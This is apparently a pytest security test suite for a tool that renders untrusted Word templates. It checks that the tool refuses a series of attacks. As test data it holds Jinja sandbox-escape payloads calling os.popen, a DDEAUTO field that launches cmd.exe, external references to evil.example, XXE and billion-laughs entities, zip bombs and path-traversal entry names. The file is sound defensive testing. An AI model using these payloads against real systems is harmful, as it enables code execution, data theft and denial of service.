"""A Word form from a stranger (lines W of the threat model): put into the workspace and printed with."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from html import escape
from pathlib import Path

import pytest
from lxml import etree

from posdoc.word import Form
from tests.security.conftest import SETTINGS, Posdoc
from tests.word.samples import METADATA, PARTS, W, package, paragraph, part

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = "word/_rels/document.xml.rels"
Printed = Callable[[bytes], list[str]]


@pytest.fixture
def printed(workspace: Path, posdoc: Posdoc) -> Printed:
    """Print with a form; the texts of the paragraphs, or nothing where the form is refused: by check and by build."""
    (workspace / "templates").mkdir()
    (workspace / "posdoc.yaml").write_text(
        f"{SETTINGS}outputs:\n  documents: [{{form: evil}}]\n  charts: []\n", "utf-8"
    )

    def build(form: bytes) -> list[str]:
        (workspace / "templates" / "evil.docx").write_bytes(form)
        checked, built = posdoc("template", "check", "evil"), posdoc("build")
        made = list((workspace / "output").rglob("*.docx"))
        assert (built.status == 0) == bool(made)
        if not made:
            assert checked.status == 1, (checked, built)
            return []
        with zipfile.ZipFile(io.BytesIO(made[0].read_bytes())) as archive:
            root = etree.fromstring(archive.read("word/document.xml"))
        made[0].unlink()
        return ["".join(node.itertext()) for node in root.iter("{*}p")]

    assert build(package(paragraph("{{ company }}"))) == ["Acme"]
    return build


def _related(kind: str, target: str, mode: str = "") -> dict[str, str]:
    entry = f'<Relationship Id="rX" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    return {RELATIONS: PARTS[RELATIONS].replace("/>", f">{entry}</Relationships>")}


@pytest.mark.threat("W1")
def test_a_tag_reaches_nothing_but_fields(printed: Printed) -> None:
    for tag in (
        "{{ company.__class__ }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ company|attr('__class__') }}",
        "{{ cycler.__init__.__globals__.os.popen('touch pwned').read() }}", "{{ lipsum.__globals__ }}", "{{ self }}",
        "{% include '/etc/passwd' %}", "{% import 'os' as os %}", "{{ '{0.__class__}'.format(company) }}",
        "{% set x = company %}", "{{ 9**9**9 }}", "{{ range(10**9)|list }}",
    ):  # fmt: skip
        assert printed(package(paragraph(escape(tag, quote=False)))) == [], tag


@pytest.mark.threat("W2")
def test_loops_end(printed: Printed) -> None:
    deep = "".join(f"{{% for x{n} in duties.items %}}" for n in range(30))
    assert printed(package(paragraph(deep + "x" + "{% endfor %}" * 30))) == []
    assert printed(package(paragraph("{{ " + "(" * 5_000 + "company" + ")" * 5_000 + " }}"))) == []
    assert printed(package(paragraph("{% if company %}" * 2_000 + "{% endif %}" * 2_000))) == []


@pytest.mark.threat("W3")
def test_nothing_active_is_taken_over(printed: Printed) -> None:
    for kind, target in (("vbaProject", "vbaProject.bin"), ("oleObject", "embeddings/o.bin"), ("aFChunk", "a.html"),
                         ("control", "activeX/activeX1.xml")):  # fmt: skip
        assert printed(package(paragraph("{{ company }}"), _related(kind, target))) == [], kind


def _field(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


@pytest.mark.threat("W4")
def test_fields_that_run_or_fetch_are_refused(printed: Printed) -> None:
    command = r'"c:\\windows\\system32\\cmd.exe" "/k calc"'
    inner = _field("QUOTE 68 68 69 65 85 84 79").join(('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', ""))
    for field in (
        _field("DDEAUTO ", escape(command)),
        _field(" dd", "eauto x y"),
        _field('INCLUDEPICTURE "http://evil.example/x.png"'),
        '<w:fldSimple w:instr="INCLUDETEXT c:/secret.txt"/>',
        f'{inner}<w:r><w:fldChar w:fldCharType="end"/></w:r>',
    ):
        body = f"<w:p>{field}</w:p>{paragraph('{{ company }}')}"
        assert printed(package(body)) == [], field
        assert (
            printed(package(part(body).decode().join(('<?xml version="1.0" encoding="UTF-16"?>', "")).encode("utf-16")))
            == []
        )
    assert printed(package(f"<w:p>{_field(' PAGE ')}</w:p>{paragraph('{{ company }}')}"))[-1] == "Acme"


@pytest.mark.threat("W5")
def test_nothing_outside_is_referred_to(printed: Printed) -> None:
    outside = ' TargetMode="External"'
    for kind in ("image", "oleObject", "frame", "subDocument", "externalLink"):
        for target in ("http://evil.example/x", "file:///etc/passwd", r"\\evil.example\share"):
            assert printed(package(paragraph("{{ company }}"), _related(kind, target, outside))) == [], kind
    settings = f'<w:settings {W} xmlns:r="{OFFICE}"><w:attachedTemplate r:id="r1"/></w:settings>'
    entry = f'<Relationship Id="r1" Type="{OFFICE}/attachedTemplate" Target="http://evil.example/t.dotm"{outside}/>'
    template = PARTS[RELATIONS].replace("/>", f">{entry}</Relationships>")
    more = {"word/settings.xml": settings, "word/_rels/settings.xml.rels": template}
    form = package(paragraph("{{ company }}"), more)
    assert b"evil.example" in zipfile.ZipFile(io.BytesIO(form)).read("word/_rels/settings.xml.rels")
    made = zipfile.ZipFile(io.BytesIO(Form(form, "evil").render({"company": "Acme"}, METADATA)))
    assert not [name for name in made.namelist() if b"evil.example" in made.read(name)]


@pytest.mark.threat("W6")
def test_a_zip_bomb_is_not_unpacked(printed: Printed) -> None:
    for parts in ({"word/document.xml": 400}, {f"word/media/i{n}.png": 50 for n in range(8)}):
        stream = io.BytesIO(package(paragraph("{{ company }}")))
        with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as archive:
            for name, megabytes in parts.items():
                with archive.open(name + "x", "w", force_zip64=True) as member:
                    for _ in range(megabytes):
                        member.write(bytes(2**20))
        assert printed(stream.getvalue()) == []


@pytest.mark.threat("W7")
def test_entities_and_document_types_are_refused(printed: Printed, workspace: Path) -> None:
    (workspace / "secret.txt").write_text("the secret", encoding="utf-8")
    laughs = "<!ENTITY a0 'x'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
    for declared, used in (
        (f'<!ENTITY x SYSTEM "{(workspace / "secret.txt").as_uri()}">', "&x;"),
        ('<!ENTITY % d SYSTEM "http://127.0.0.1:1/x.dtd"> %d;', ""),
        (laughs, "&a11;"),
    ):
        body = part(paragraph(f"{{{{ company }}}}{used}")).decode()
        assert printed(package(f"<!DOCTYPE w:document [{declared}]>{body}".encode())) == []


@pytest.mark.threat("W8")
def test_names_in_the_file_lead_nowhere(printed: Printed) -> None:
    for name in ("../../evil", "/etc/evil", "C:/evil", "..\\evil", "word/../../evil"):
        stream = io.BytesIO(package(paragraph("{{ company }}")))
        with zipfile.ZipFile(stream, "a") as archive:
            archive.writestr(name, "x")
        assert printed(stream.getvalue()) == [], name


@pytest.mark.threat("W9")
def test_a_text_stays_a_text(printed: Printed, workspace: Path) -> None:
    for text in ("</w:t></w:r><w:br/>", "{{ company.__class__ }}", "{% for x in parts %}", "]]><x/>", "&lt;&#60;&x;"):
        settings = (workspace / "posdoc.yaml").read_text(encoding="utf-8").splitlines()[1:]
        named = "\n".join([f"organization: {json.dumps(text)}", *settings])
        (workspace / "posdoc.yaml").write_text(named, encoding="utf-8")
        assert printed(package(paragraph("{{ company }}"))) == [text]
